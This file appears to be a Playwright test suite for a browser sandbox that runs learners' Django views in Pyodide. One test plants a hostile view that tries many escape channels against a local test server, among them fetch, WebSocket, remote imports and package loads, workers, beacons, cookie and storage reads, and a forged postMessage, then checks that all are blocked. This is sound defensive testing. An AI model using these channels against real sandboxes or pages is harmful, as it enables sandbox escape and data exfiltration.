import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from '@playwright/test';
import { expect, openStage, simulatedPage, visit } from './page.ts';

/** A server elsewhere that lets anybody read, and remembers who asked. */
async function elsewhere(): Promise<{ server: Server; address: string; asked: string[] }> {
	const asked: string[] = [];
	const server = createServer((request, response) => {
		asked.push(request.url ?? '');
		response.setHeader('Access-Control-Allow-Origin', '*');
		response.setHeader('Content-Type', 'text/javascript');
		response.end('export default 1');
	});
	server.on('upgrade', (request, socket) => {
		asked.push(request.url ?? '');
		socket.destroy();
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	return { server, address: `127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

/** A view that tries to get out by every way that Pyodide offers, and answers those that did not fail. */
const hostile = (address: string) => `from django.http import HttpResponse


def count(request):
    import js, pyodide_js
    from pyodide.code import run_js
    from pyodide.ffi import to_js

    away = 'http://${address}/'
    ways = {
        'none': lambda: js.Object.new(),
        'fetch': lambda: js.fetch(away + 'fetch'),
        'fetch by its constructor': lambda: js.Object.constructor('return fetch')()(away + 'constructor'),
        'eval': lambda: js.eval('1 + 1'),
        'run_js': lambda: run_js('1 + 1'),
        'import': lambda: run_js('import("' + away + 'import")'),
        'XMLHttpRequest': lambda: js.XMLHttpRequest.new().open('GET', away + 'xhr'),
        'WebSocket': lambda: js.WebSocket.new('ws://${address}/socket'),
        'EventSource': lambda: js.EventSource.new(away + 'events'),
        'WebTransport': lambda: js.WebTransport.new('https://${address}/transport'),
        'sendBeacon': lambda: js.navigator.sendBeacon(away + 'beacon'),
        'importScripts': lambda: js.importScripts(away + 'script'),
        'Worker': lambda: js.Worker.new(away + 'worker'),
        'Worker from data': lambda: js.Worker.new('data:text/javascript,1'),
        'BroadcastChannel': lambda: js.BroadcastChannel.new('crumbs'),
        'indexedDB': lambda: js.indexedDB.open('crumbs'),
        'caches': lambda: js.caches.open('crumbs'),
        'localStorage': lambda: js.localStorage.getItem('crumbs'),
        'document': lambda: js.document.cookie,
        'OPFS': lambda: js.navigator.storage.getDirectory(),
        'locks': lambda: js.navigator.locks.request('crumbs', lambda lock: None),
    }
    open_ways = []
    for name, way in ways.items():
        try:
            way()
            open_ways.append(name)
        except BaseException:
            pass
    try:
        pyodide_js.loadPackage(away + 'package-1.0-py3-none-any.whl')
    except BaseException:
        pass
    js.postMessage(to_js({'id': '1', 'type': 'RAW', 'value': 'forged'}, dict_converter=js.Object.fromEntries))
    return HttpResponse('open: [%s]' % ', '.join(open_ways))
`;

// The browser writes each refusal to the console: these pages are not quiet.
test.describe('the sandbox of learners’ code', () => {
	test('has no way out to the network, to storage or to the page', async ({ page }) => {
		const { server, address, asked } = await elsewhere();
		await openStage(page, '/sandbox/');
		await page.getByRole('button', { name: 'Edit', exact: true }).click();
		await expect(page.getByRole('textbox', { name: /^Text of views\.py/ })).toBeFocused();
		await page.keyboard.press('ControlOrMeta+a');
		// One line: the editor would indent more of them its own way.
		await page.keyboard.insertText(`exec(${JSON.stringify(hostile(address))})`);
		await page.getByRole('button', { name: 'Save', exact: true }).click();
		await visit(page, '/count/');
		await expect(simulatedPage(page)).toHaveText('open: [none]');
		// What was begun and not refused at once would have arrived by the second exchange.
		await visit(page, '/count/');
		await expect(simulatedPage(page)).toHaveText('open: [none]');
		// That the server would have heard of it is shown by asking it from here.
		await fetch(`http://${address}/control`);
		expect(asked).toEqual(['/control']);
		server.close();
	});

	test('is ended when it cannot be interrupted, and the world is as before', async ({ page }) => {
		await openStage(page, '/sandbox/');
		await visit(page, '/count/');
		const before = await simulatedPage(page).textContent();
		await page.getByRole('button', { name: 'Edit', exact: true }).click();
		await expect(page.getByRole('textbox', { name: /^Text of views\.py/ })).toBeFocused();
		await page.keyboard.press('ControlOrMeta+a');
		await page.keyboard.insertText('def count(request): return sum(range(10 ** 12))');
		await page.getByRole('button', { name: 'Save', exact: true }).click();
		await page.getByLabel('Address').fill('/count/');
		await page.getByLabel('Address').press('Enter');
		await page.getByRole('button', { name: 'Run to end' }).click();
		await expect(page.getByText('Stopped after 5 seconds').first()).toBeVisible({ timeout: 40_000 });
		await expect(simulatedPage(page)).toHaveText(before ?? '');
	});
});

test('something is broken from the menu, told, and mended', async ({ page }) => {
	await openStage(page, '/sandbox/');
	await visit(page, '/count/');
	await page.getByRole('button', { name: 'Break', exact: true }).click();
	await page.getByRole('button', { name: 'Lock the database against writes' }).click();
	await expect(page.getByText('Reads go on; writes wait 5 seconds')).toBeVisible();
	await visit(page, '/count/');
	await expect(page.getByText('Not saved: the session is gone.')).toBeVisible();
	await page.getByRole('button', { name: 'Broken: database locked' }).click();
	await page.getByRole('button', { name: 'Unlock the database' }).click();
	await visit(page, '/count/');
	await expect(simulatedPage(page)).toHaveText('view count=2');
});
